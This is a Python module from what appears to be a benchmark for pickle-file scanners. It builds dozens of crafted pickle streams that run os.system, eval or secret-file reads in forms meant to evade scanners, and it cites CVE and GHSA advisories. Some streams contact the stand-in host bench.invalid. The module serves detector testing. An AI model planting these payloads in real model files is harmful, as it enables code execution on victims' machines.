"""One call in every form that the pickle machine knows, and forms that readers disagree on.

Source: CPython's Modules/_pickle.c and the issues named beside each technique.
"""

from __future__ import annotations

import struct

from bench.scanner_attacks.stream import Call, Name, Raw, binary, call, push, stream, text
from bench.scanner_attacks.techniques import COMMAND, SECRET, SOURCE, Family

FAMILY = Family("pickle forms")
SYSTEM = call("os", "system", COMMAND)
RUN = push(SYSTEM)
OLD = b"cos\nsystem\n(" + text(COMMAND, 1) + b"tR"
"""The call by opcodes of protocol 1, without a header."""

_EVAL_MAP = Raw(
    push(Name("builtins", "map")) + push((Name("builtins", "eval"), [SOURCE])) + b"\x81"
)


def _frame_hides() -> bytes:
    # Read from a file, the C unpickler drops what is left of a frame when an argument straddles
    # its end: it then sees one byte of data where others see 263.
    padding = b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + b"0("
    hidden = (OLD + b"(").ljust(261, b"N")
    return padding + b"\x95" + struct.pack("<Q", 2) + b"B\x07\x01\0\0" + b"\0\0" + hidden + b"1."


def _setstate_class() -> Call:
    own = call("builtins", "type", "Weights", (), {"__setstate__": Name("builtins", "eval")})
    return Call(own, (), SOURCE)


_CODES = {
    "inst": b"(" + text(COMMAND, 0) + b"ios\nsystem\n.",
    "obj": b"(cos\nsystem\n" + text(COMMAND, 0) + b"o.",
    "newobj": b"\x80\x04" + push(Name("builtins", "bytes")) + push((_EVAL_MAP,)) + b"\x81.",
    "newobj-ex": b"\x80\x04" + push(Name("builtins", "bytes")) + push((_EVAL_MAP,)) + b"}\x92.",
    "pop-after-reduce": b"\x80\x04" + RUN + b"0" + text("weights") + b".",
    "pop-mark-after-reduce": b"\x80\x04(" + RUN + b"1" + text("weights") + b".",
    "dup-before-pop": b"\x80\x04" + RUN + b"20.",
    "result-kept-in-memo": b"\x80\x04" + RUN + b"\x940" + text("weights") + b".",
    "build-after-reduce": b"\x80\x04" + RUN + text("done") + b"b.",
    "setitems-with-call": b"\x80\x04}(" + text("weights") + RUN + b"u.",
    "call-as-dict-key": b"\x80\x04}(" + RUN + text("value") + b"u.",
    "call-in-set": b"\x80\x04\x8f(" + RUN + b"\x90.",
    "call-in-frozenset": b"\x80\x04(" + RUN + b"\x91.",
    "call-as-state": (
        b"\x80\x04" + push(call("collections", "OrderedDict")) + b"}(V1\n" + RUN + b"ub."
    ),
    "call-as-persistent-id": b"\x80\x04" + RUN + b"Q.",
    "no-proto-opcode": RUN + b".",
    "payload-before-bad-proto": RUN + b"\x80\xff.",
    "payload-before-bad-frame": RUN + b"\x95" + struct.pack("<Q", 10**6) + b".",
    "payload-before-next-buffer": b"\x80\x05" + RUN + b"0\x97.",
    "proto-in-the-middle": text("a") + b"0\x80\x04\x80\x02" + RUN + b".",
    "empty-frames": b"\x80\x04" + (b"\x95" + bytes(8)) * 2 + RUN + b".",
    "two-megabytes-before": (
        b"\x80\x04X" + struct.pack("<I", 2**21) + b"a" * 2**21 + b"0" + RUN + b"."
    ),
    "among-100000-floats": (
        b"\x80\x04(" + b"G?\xf0\0\0\0\0\0\0" * 50_000 + RUN + b"G?\xf0\0\0\0\0\0\0" * 50_000 + b"l."
    ),
    "deep-nesting": b"\x80\x04" + b"(" * 3_000 + RUN + b"t" * 3_000 + b".",
    "text-escapes-in-names": b"V\\u006fs\nVsyste\\u006d\n\x93(" + text(COMMAND, 0) + b"tR.",
    "string-opcode-names": b"S'os'\nS'system'\n\x93S'" + COMMAND.encode() + b"'\n\x85R.",
    "string-opcode-quotes": b'S"os"\nS"system"\n\x93S"' + COMMAND.encode() + b'"\n\x85R.',
    "string-opcode-escapes": b"S'\\x6fs'\nS'\\x73ystem'\n\x93(" + text(COMMAND, 0) + b"tR.",
    "binstring-names": b"T\x02\0\0\0osU\x06system\x93(" + text(COMMAND, 1) + b"tR.",
    "binunicode8-names": (
        b"\x80\x04\x8d"
        + struct.pack("<Q", 2)
        + b"os\x8d"
        + struct.pack("<Q", 6)
        + b"system\x93"
        + push((COMMAND,))
        + b"R."
    ),
    "arguments-before-names": (
        b"\x80\x04" + push((COMMAND,)) + b"\x940" + push(Name("os", "system")) + b"h\0R."
    ),
    "python2-builtin": b"c__builtin__\neval\n(" + text(SOURCE, 0) + b"tR.",
    "python2-commands": b"ccommands\ngetoutput\n(" + text(COMMAND, 0) + b"tR.",
    "python2-cpickle": b"ccPickle\nloads\n(" + binary(stream(SYSTEM), 0) + b"tR.",
    "python2-urllib": b"curllib\nurlopen\n(Vhttps://bench.invalid/\ntR.",
    "non-ascii-string": b"U\x02\xff\xfe0" + OLD + b".",
    "int-in-base-16": b"I0x10\n0" + OLD + b".",
    "int-in-base-2": b"I0b1\n0" + OLD + b".",
    "int-with-underscore": b"I1_000\n0" + OLD + b".",
    "long-in-base-8": b"L0o17L\n0" + OLD + b".",
    "bool-with-sign": b"I+0\n0" + OLD + b".",
    "float-as-nan": b"Fnan\n0" + OLD + b".",
    "mark-left-on-stack": b"(" + OLD + b".",
    "value-left-on-stack": text("w", 1) + OLD + b".",
    "memo-redefined": b"\x80\x02Vos\nq\0Vsystem\nq\x0000" + OLD + b".",
    "put-large-index": b"K\x01p999999\n0" + OLD + b".",
    "put-index-beyond-long": b"K\x01p99999999999999999999\n0" + OLD + b".",
    "appends-nothing-to-number": b"K\x01(e0" + OLD + b".",
    "getattr-chain": stream(
        Call(
            call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), (COMMAND,)
        )
    ),
    "attrgetter-chain": stream(
        Call(
            Call(call("operator", "attrgetter", "system"), (call("builtins", "__import__", "os"),)),
            (COMMAND,),
        )
    ),
    "methodcaller-chain": stream(
        Call(call("operator", "methodcaller", "system", COMMAND), (call("pydoc", "locate", "os"),))
    ),
    "methodcaller-chain-in-c": stream(
        Call(call("_operator", "methodcaller", "system", COMMAND), (call("pydoc", "locate", "os"),))
    ),
    "attrgetter-chain-in-c": stream(
        Call(
            Call(
                call("_operator", "attrgetter", "system"), (call("builtins", "__import__", "os"),)
            ),
            (COMMAND,),
        )
    ),
    "eval-under-getattr": stream(
        Call(
            call("builtins", "getattr", call("builtins", "__import__", "builtins"), "eval"),
            (SOURCE,),
        )
    ),
    "eval-under-map-and-getattr": stream(
        call(
            "builtins",
            "list",
            call(
                "builtins",
                "map",
                call("builtins", "getattr", call("types", "ModuleType", "builtins"), "eval"),
                [SOURCE],
            ),
        )
    ),
    "read-into-state": stream(
        Call(
            Name("difflib", "Differ"),
            (),
            call(
                "builtins",
                "dict",
                call("builtins", "enumerate", call("linecache", "getlines", SECRET)),
            ),
        )
    ),
    "called-by-obj-and-dropped": (
        b"\x80\x04("
        + push(Name("smtplib", "SMTP"))
        + push("bench.invalid")
        + b"o0"
        + text("weights")
        + b"."
    ),
    "spawned-by-obj": (
        b"\x80\x04(cpty\nspawn\n" + b"](" + text("echo") + text("muniment-bench") + b"eo."
    ),
    "call-made-to-look-used": stream(
        Call(Name("socketserver", "TCPServer"), (("", 0), None), {"weights": 1})
    ),
    "call-with-empty-state": stream(Call(Name("signal", "signal"), (2, None), {})),
    "call-after-honest-import": (
        b"\x80\x04"
        + push(Name("torch._utils", "_rebuild_tensor_v2"))
        + b"0"
        + push(call("smtplib", "SMTP", "bench.invalid", 25))
        + b"."
    ),
    "partial": stream(Call(call("functools", "partial", Name("os", "system"), COMMAND))),
    "reduce-function": stream(
        Call(
            call(
                "functools",
                "reduce",
                Name("builtins", "getattr"),
                ["system"],
                call("builtins", "__import__", "os"),
            ),
            (COMMAND,),
        )
    ),
    "starmap": stream(
        call("builtins", "list", call("itertools", "starmap", Name("os", "system"), [(COMMAND,)]))
    ),
    "latent-defaultdict": stream(
        call("collections", "defaultdict", call("functools", "partial", Name("os", "system"), "ls"))
    ),
    "operator-call": stream(call("_operator", "call", Name("os", "system"), COMMAND)),
    "class-with-own-setstate": stream(_setstate_class()),
    "frame-hides-payload": _frame_hides(),
}

_ADVISORIES = {
    "inst": ("picklescan issue 13",),
    "obj": ("GHSA-r7v6-mfhq-g3m2", "fickling pull 108"),
    "build-after-reduce": ("GHSA-r7v6-mfhq-g3m2",),
    "setitems-with-call": ("CVE-2026-14534", "GHSA-m6fh-58r7-x697"),
    "string-opcode-names": ("GHSA-9gvj-pp9x-gcfr", "CVE-2025-71325"),
    "non-ascii-string": ("cpython 126997",),
    "int-in-base-16": ("cpython 126992",),
    "int-in-base-2": ("cpython 126992",),
    "int-with-underscore": ("cpython 126992",),
    "long-in-base-8": ("cpython 126992",),
    "bool-with-sign": ("cpython 135241",),
    "mark-left-on-stack": ("cpython 127079",),
    "value-left-on-stack": ("cpython 127079",),
    "memo-redefined": ("cpython 123309",),
    "appends-nothing-to-number": ("cpython 135573",),
    "getattr-chain": ("GHSA-q5qq-mvfm-j35x", "CVE-2026-22609"),
    "attrgetter-chain": ("picklescan malicious12",),
    "methodcaller-chain": ("GHSA-84r2-jw7c-4r5q", "CVE-2025-71373"),
    "methodcaller-chain-in-c": ("GHSA-955r-x9j8-7rhh",),
    "attrgetter-chain-in-c": ("GHSA-46h3-79wf-xr6c",),
    "eval-under-getattr": ("GHSA-9m3x-qqw2-h32h",),
    "eval-under-map-and-getattr": ("GHSA-9m3x-qqw2-h32h",),
    "read-into-state": ("GHSA-r48f-3986-4f9c",),
    "called-by-obj-and-dropped": ("GHSA-mxhj-88fx-4pcv",),
    "spawned-by-obj": ("GHSA-hgrh-qx5j-jfwx",),
    "call-made-to-look-used": ("GHSA-mhc9-48gj-9gp3",),
    "call-with-empty-state": ("GHSA-mhc9-48gj-9gp3",),
    "call-after-honest-import": ("GHSA-cffv-grgg-g429",),
    "put-index-beyond-long": ("cpython 144410",),
    "frame-hides-payload": ("cpython 154848",),
    "payload-before-bad-frame": ("cpython 128853",),
}

for _number in range(6):
    FAMILY.add(f"protocol-{_number}", "model.pkl", lambda number=_number: stream(SYSTEM, number))
for _name, _code in _CODES.items():
    FAMILY.add(_name, "model.pkl", lambda code=_code: code, *_ADVISORIES.get(_name, ()))
# joblib reads with the unpickler written in Python, which skips an empty state.
FAMILY.add(
    "build-list-with-empty-state", "model.joblib", lambda: b"]}b0" + OLD + b".", "cpython 128965"
)
